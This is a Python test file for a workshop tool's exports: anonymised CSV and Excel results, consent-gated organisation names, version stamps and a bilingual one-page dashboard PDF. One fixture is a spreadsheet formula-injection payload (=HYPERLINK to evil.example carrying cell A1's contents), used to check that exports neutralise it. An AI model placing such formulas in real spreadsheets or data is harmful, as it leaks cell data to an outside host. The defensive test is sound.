"""A workshop's exports (``reports.workshop_export``): CSV, Excel and the one-page dashboard PDF.

Checked:
- rows are anonymised by default (a number, no key, no organisation column); with
  ``include_organisation`` an organisation is written only where its participant consented;
- the CSV (read back with the csv module) and the workbook (read back with openpyxl) keep
  numbers as numbers, neutralise a hostile organisation name such as ``=HYPERLINK(...)`` and
  carry the stamp (engine and library versions, export time); the workbook has its About and
  Summary sheets;
- the PDF is one A4 landscape page whose text (``pdftotext``) holds the title, the counts and a
  recommended set-up's name, in English and in French; hidden panels are left out; the same
  input gives the same bytes.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from reports.workshop_export import (
    SHEET_ABOUT,
    SHEET_COLUMNS,
    SHEET_RESULTS,
    SHEET_SUMMARY,
    STAMP_COLUMNS,
    Stamp,
    dashboard_pdf,
    export_stamp,
    result_columns,
    results_csv,
    results_rows,
    results_xlsx,
)
from scoring.aggregate import RoomSummary, answers_frame, result_summary, summarise
from scoring.answers import parse_answers
from scoring.matchmaking import MatchInput, match
from scoring.recommend import engine_for, recommend
from templates_library import load_library
from tests.unit.helpers import pdftotext, sample_answers

ENGINE = engine_for()
LIBRARY = ENGINE.library
JOINED = dt.datetime(2026, 3, 2, 9, 0, tzinfo=dt.UTC)
STAMP = Stamp(
    ENGINE.version, ENGINE.library_version, dt.datetime(2026, 3, 2, 17, 30, tzinfo=dt.UTC)
)
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
TITLE = "Lorraine–Murcia wood workshop"


@dataclass(frozen=True)
class Submission:
    """A participant as ``storage.workshops.SubmissionInfo`` exposes it."""

    number: int
    participant_key: str
    answers: dict | None
    result: dict | None
    organisation: str | None
    consent: bool
    joined_at: dt.datetime
    submitted_at: dt.datetime | None


def _submissions() -> list[Submission]:
    people = [
        # (region, position, organisation, consent)
        ("lorraine", "subcontractor", "Scierie Dupont", True),
        ("lorraine", "manufacturer", HOSTILE, True),
        ("murcia", "distributor", "Bodegas Secretas", False),  # refused: never written
        ("murcia", "rnd", None, False),
        ("lorraine", "manufacturer", "+33 3 83 00 00 00", True),
        ("nrw", "rnd", "@handle", True),
    ]
    out = []
    for number, (region, position, organisation, consent) in enumerate(people, start=1):
        answers = parse_answers(sample_answers(region=region, value_chain=position, language="fr"))
        out.append(
            Submission(
                number=number,
                participant_key=f"key-{number}-7f3a9c",
                answers=answers.to_file_dict(),
                result=result_summary(recommend(answers, ENGINE, robustness=False)),
                organisation=organisation,
                consent=consent,
                joined_at=JOINED,
                submitted_at=JOINED + dt.timedelta(minutes=10 + number),
            )
        )
    # Joined but never submitted: no row.
    out.append(Submission(7, "key-7-aaaa", None, None, None, False, JOINED, None))
    return out


SUBMISSIONS = _submissions()


def _summary() -> RoomSummary:
    records = [(s.answers, s.result) for s in SUBMISSIONS if s.answers is not None]
    return summarise(answers_frame(records), ENGINE)


# --- rows --------------------------------------------------------------------------------------


def test_rows_are_anonymised_by_default() -> None:
    rows = results_rows(SUBMISSIONS)
    assert [r["participant"] for r in rows] == [1, 2, 3, 4, 5, 6]
    assert all(list(r) == result_columns() for r in rows)
    assert "organisation" not in result_columns()
    text = repr(rows)
    assert "key-" not in text
    assert "Scierie" not in text
    assert "Bodegas" not in text
    first = rows[0]
    assert first["employees"] == 35
    assert first["needs_regulatory"] == 3
    assert first["needs_patent"] == 0  # left out of the answers: 0
    assert first["maturity_culture"] == 2
    assert first["top1"] == SUBMISSIONS[0].result["top"][0]["template_id"]
    assert first["score1"] == SUBMISSIONS[0].result["top"][0]["score"]
    assert first["engine_version"] == ENGINE.version
    assert first["language"] == "fr"
    assert first["submitted_at"] == "2026-03-02T09:11:00Z"


def test_organisation_only_with_the_flag_and_consent() -> None:
    rows = results_rows(SUBMISSIONS, include_organisation=True)
    names = {r["participant"]: r["organisation"] for r in rows}
    assert names == {
        1: "Scierie Dupont",
        2: HOSTILE,
        3: "",  # did not consent: left out even though a name is there
        4: "",
        5: "+33 3 83 00 00 00",
        6: "@handle",
    }
    assert list(rows[0]) == result_columns(include_organisation=True)


# --- CSV ---------------------------------------------------------------------------------------


def test_csv_is_safe_stamped_and_keeps_numbers() -> None:
    text = results_csv(results_rows(SUBMISSIONS, include_organisation=True), STAMP)
    assert text.startswith("\ufeff")
    assert "key-" not in text
    assert "Bodegas" not in text
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert len(rows) == 6
    assert list(rows[0])[-len(STAMP_COLUMNS) :] == STAMP_COLUMNS
    by_number = {row["participant"]: row for row in rows}
    assert by_number["2"]["organisation"] == "'" + HOSTILE
    assert by_number["5"]["organisation"].startswith("'+")
    assert by_number["6"]["organisation"] == "'@handle"
    assert by_number["1"]["employees"] == "35"
    assert float(by_number["1"]["budget_eur_per_year"]) == 3000.0
    assert by_number["1"]["consent"] == "true"
    for row in rows:
        assert row["exported_at"] == "2026-03-02T17:30:00Z"
        assert row["export_engine_version"] == ENGINE.version
        assert row["export_library_version"] == ENGINE.library_version
        assert not any(str(v).startswith(("=", "+", "-", "@")) for v in row.values())


def test_csv_of_no_rows_still_has_its_header() -> None:
    text = results_csv([], STAMP)
    header = next(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert header == [*result_columns(), *STAMP_COLUMNS]


# --- Excel -------------------------------------------------------------------------------------


def _workbook(rows: list[dict[str, Any]], language: str = "en") -> Any:
    data = results_xlsx(rows, STAMP, _summary(), title=TITLE, language=language)
    return load_workbook(io.BytesIO(data))


def test_workbook_keeps_numbers_and_neutralises_formulas() -> None:
    book = _workbook(results_rows(SUBMISSIONS, include_organisation=True))
    assert book.sheetnames == [SHEET_RESULTS, SHEET_SUMMARY, SHEET_COLUMNS, SHEET_ABOUT]
    sheet = book[SHEET_RESULTS]
    header = [c.value for c in sheet[1]]
    assert header[-len(STAMP_COLUMNS) :] == STAMP_COLUMNS
    column = {name: index for index, name in enumerate(header)}
    values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
    assert len(values) == 6
    assert isinstance(values[0][column["employees"]], int)
    assert isinstance(values[0][column["budget_eur_per_year"]], float | int)
    assert isinstance(values[0][column["score1"]], float)
    assert values[0][column["consent"]] is True
    hostile = sheet.cell(row=3, column=column["organisation"] + 1)
    assert hostile.value == "'" + HOSTILE
    assert hostile.data_type == "s"
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not (isinstance(cell.value, str) and cell.value.startswith(("=", "+", "@")))
    assert values[2][column["organisation"]] is None  # no consent: empty


def test_workbook_about_and_summary_sheets() -> None:
    book = _workbook(results_rows(SUBMISSIONS))
    about = {row[0]: row[1] for row in book[SHEET_ABOUT].iter_rows(values_only=True)}
    assert about["Workshop"] == TITLE
    assert about["Scoring engine version"] == ENGINE.version
    assert about["Template library version"] == ENGINE.library_version
    assert about["Exported at (UTC)"] == "2026-03-02T17:30:00Z"
    assert about["Participants with results"] == 6
    assert "organisation names are left out" in about["Anonymisation"]
    summary = list(book[SHEET_SUMMARY].iter_rows(values_only=True))
    assert summary[0] == ("Respondents", 6, None)
    counts = {row[0]: row[2] for row in summary if row and row[0] in LIBRARY.regions}
    assert counts == {"lorraine": 3, "murcia": 2, "nrw": 1}
    names = [row[1] for row in summary]
    top = SUBMISSIONS[0].result["top"][0]["template_id"]
    assert LIBRARY.templates[top].name in names
    french = _workbook(results_rows(SUBMISSIONS, include_organisation=True), language="fr")
    about = {row[0]: row[1] for row in french[SHEET_ABOUT].iter_rows(values_only=True)}
    assert about["Atelier"] == TITLE
    assert "a accepté" in about["Protection de l'anonymat"]


# --- PDF ---------------------------------------------------------------------------------------


def _pdftotext(data: bytes, tmp_path: Path) -> str:
    return pdftotext(data, tmp_path, "dashboard.pdf")


def _matches() -> list:
    people = [MatchInput(s.participant_key, s.answers, s.consent) for s in SUBMISSIONS if s.answers]
    return match(people, LIBRARY)


def _squeeze(text: str) -> str:
    return " ".join(text.split())


def test_dashboard_is_one_landscape_page_with_title_counts_and_setups(tmp_path: Path) -> None:
    summary = _summary()
    data = dashboard_pdf(summary, title=TITLE, stamp=STAMP, joined=7, matches=_matches())
    assert data.startswith(b"%PDF")
    assert len(re.findall(rb"/Type\s*/Page\b(?!s)", data)) == 1
    assert re.search(rb"/MediaBox\s*\[\s*0\s+0\s+841\.89\s+595\.28", data)
    text = _pdftotext(data, tmp_path)
    assert text.count("\f") == 1
    flat = _squeeze(text)
    assert TITLE in flat
    assert "7 joined, 6 answers submitted" in flat
    top = next(iter(summary.recommended))
    assert LIBRARY.templates[top].name in flat
    assert "Maturity by region" in flat
    assert "Culture" in flat
    assert ENGINE.library_version in flat


def test_dashboard_shows_numbers_and_hides_small_groups(tmp_path: Path) -> None:
    summary = _summary()
    text = _squeeze(_pdftotext(dashboard_pdf(summary, title=TITLE, stamp=STAMP), tmp_path))
    # Lorraine (3 respondents) shows its levels; Murcia (2) and NRW (1) show dashes.
    level = summary.maturity.at["culture", "lorraine"]
    assert f"{level:.1f}" in text
    assert text.count("–") >= 2 * len(summary.maturity.index)
    assert "fewer than 3 respondents" in text


def test_dashboard_in_french_and_hidden_panels(tmp_path: Path) -> None:
    summary = _summary()
    top = next(iter(summary.recommended))
    french = dashboard_pdf(summary, title=TITLE, stamp=STAMP, language="fr")
    text = _squeeze(_pdftotext(french, tmp_path))
    assert "Maturité par région" in text
    assert "6 réponses envoyées" in text
    catalogue_name = load_library().templates[top].name
    assert catalogue_name not in text  # the French name is shown instead
    hidden = dashboard_pdf(
        summary, title=TITLE, stamp=STAMP, hidden=("setups", "maturity", "participation")
    )
    text = _squeeze(_pdftotext(hidden, tmp_path))
    assert TITLE in text
    assert "Maturity by region" not in text
    assert "First recommended set-ups" not in text
    assert "answers submitted" not in text


def test_dashboard_is_deterministic() -> None:
    summary = _summary()
    first = dashboard_pdf(summary, title=TITLE, stamp=STAMP, matches=_matches())
    assert first == dashboard_pdf(summary, title=TITLE, stamp=STAMP, matches=_matches())


def test_export_stamp_names_the_engine_and_the_time() -> None:
    moment = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)
    stamp = export_stamp(ENGINE, moment)
    assert stamp == Stamp(ENGINE.version, ENGINE.library_version, moment)
    assert export_stamp().exported_at.tzinfo is not None


@pytest.mark.parametrize("lang", ["en", "de", "el"])
def test_the_workbook_explains_every_column_in_its_language(lang: str) -> None:
    """Results keeps its machine column names; the Columns sheet says what each one means."""
    from openpyxl import load_workbook

    from templates_library.locales import catalogues

    rows = results_rows(_submissions())
    data = results_xlsx(rows, STAMP, _summary(), language=lang)
    book = load_workbook(io.BytesIO(data))
    header = [c.value for c in next(book["Results"].iter_rows(max_row=1))]
    legend = {r[0]: r[1] for r in book["Columns"].iter_rows(min_row=2, values_only=True)}
    assert list(legend) == header
    assert all(label for label in legend.values()), legend
    # columns named after an answer, a dimension or a kind of watch say it in words
    assert legend["maturity_culture"] != "maturity_culture"
    assert legend["needs_regulatory"] != "needs_regulatory"
    assert legend["sector"] == catalogues().text(lang, "fields.sector")
    assert legend["top1"] == catalogues().text(lang, "workshop_export.columns.top1")
